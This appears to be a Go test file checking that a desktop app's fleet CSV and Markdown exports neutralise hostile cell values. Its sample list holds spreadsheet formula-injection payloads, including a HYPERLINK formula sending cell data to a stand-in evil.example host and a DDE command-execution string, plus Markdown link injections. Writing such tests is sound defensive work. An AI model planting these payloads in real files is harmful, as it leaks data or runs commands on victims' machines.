package desk

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"

	"fyne.io/fyne/v2/storage"

	"trustedapp-tester/internal/testdir"
)

// hostileCells are values a profile name, a tag or a server (a System User, a
// database, a version) could carry into an export.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	`=cmd|' /C calc'!A0`,
	"+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\x00=1",
	`a,b;c"d`, "two\nlines", "| col | injected |", "[link](http://evil.example)",
	"eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJlLXZhbHVl", "Ünïcødé Кирилица", "",
}

// No cell of the CSV export starts as a formula, whatever it held: each such cell
// starts with a single quote; every field is quoted; a spreadsheet's CSV reader gets
// back one row per profile with the header's cells; tokens are redacted.
func TestFleetCSVGuardsFormulas(t *testing.T) {
	var b bytes.Buffer
	tb := FleetTable{Columns: []string{"Name", "System User"}}
	for _, h := range hostileCells {
		tb.Rows = append(tb.Rows, []string{h, "svc-" + h})
	}
	if err := WriteFleetCSV(&b, tb); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.HasPrefix(out, "\ufeff\"Name\",\"System User\"\r\n") {
		t.Fatalf("head %q", out[:40])
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff")))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(hostileCells)+1 {
		t.Fatalf("%d records for %d rows", len(recs), len(hostileCells))
	}
	for i, rec := range recs[1:] {
		if len(rec) != 2 {
			t.Errorf("row %d has %d cells: %q", i, len(rec), rec)
		}
		for _, c := range rec {
			if t0 := strings.TrimLeft(c, " "); t0 != "" && strings.ContainsRune("=+-@\t\r\x00", rune(t0[0])) {
				t.Errorf("cell %q starts a formula", c)
			}
			if strings.ContainsAny(c, "\n\r\t\x00") {
				t.Errorf("cell %q holds a control character", c)
			}
		}
		if h := hostileCells[i]; formulaStart(cell(h)) && !strings.HasPrefix(rec[0], "'") {
			t.Errorf("%q exported as %q", h, rec[0])
		}
	}
	if strings.Contains(out, "c2lnbmF0dXJlLXZhbHVl") {
		t.Error("a token went into the CSV")
	}
	for _, line := range strings.Split(strings.TrimSuffix(strings.TrimPrefix(out, "\ufeff"), "\r\n"), "\r\n") {
		for _, f := range strings.Split(line, `","`) {
			if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) || f == "" {
				t.Errorf("unquoted field in %q", line)
			}
		}
	}
}

// The Markdown export is a table with one row per profile and the header's columns:
// no cell adds a column, a line, a link or markup.
func TestFleetMarkdownEscapes(t *testing.T) {
	var b bytes.Buffer
	tb := FleetTable{Title: "Fleet | <b>x</b>", Notes: []string{"Filter: [all](http://evil.example)"}, Columns: []string{"Name", "Drift"}}
	for _, h := range hostileCells {
		tb.Rows = append(tb.Rows, []string{h, h})
	}
	if err := WriteFleetMarkdown(&b, tb); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(b.String()), "\n")
	var table []string
	for _, l := range lines {
		if strings.HasPrefix(l, "|") {
			table = append(table, l)
		}
	}
	if len(table) != len(hostileCells)+2 {
		t.Fatalf("%d table lines for %d rows:\n%s", len(table), len(hostileCells), b.String())
	}
	for _, l := range table {
		if n := strings.Count(l, "|") - strings.Count(l, `\|`); n != 3 {
			t.Errorf("%d column bars in %q", n, l)
		}
	}
	if s := b.String(); regexp.MustCompile(`[^\\]\]\(`).MatchString(s) || strings.Contains(s, "://") || strings.Contains(s, "<b>") || strings.Contains(s, "c2lnbmF0dXJlLXZhbHVl") {
		t.Errorf("markup, a link or a token got through:\n%s", s)
	}
}

// The export goes through the desk's file writer: readable by its owner only.
func TestExportFleetPrivateFile(t *testing.T) {
	d, _ := newDesk(t, Deps{})
	path := filepath.Join(testdir.New(t), "fleet.csv")
	wc, err := storage.Writer(storage.NewFileURI(path))
	if err != nil {
		t.Fatal(err)
	}
	got := make(chan Written, 1)
	d.ExportFleet(wc, FleetTable{Columns: []string{"Name"}, Rows: [][]string{{"=1+1"}}}, false, func(w Written) { got <- w })
	if w := await(t, got); w.Err != nil || w.Path != path {
		t.Fatalf("written %+v", w)
	}
	data, err := os.ReadFile(path)
	if err != nil || string(data) != "\ufeff\"Name\"\r\n\"'=1+1\"\r\n" {
		t.Errorf("file %q (%v)", data, err)
	}
	if fi, err := os.Stat(path); runtime.GOOS != "windows" && (err != nil || fi.Mode().Perm() != 0o600) {
		t.Errorf("mode %v (%v)", fi.Mode(), err)
	}
}
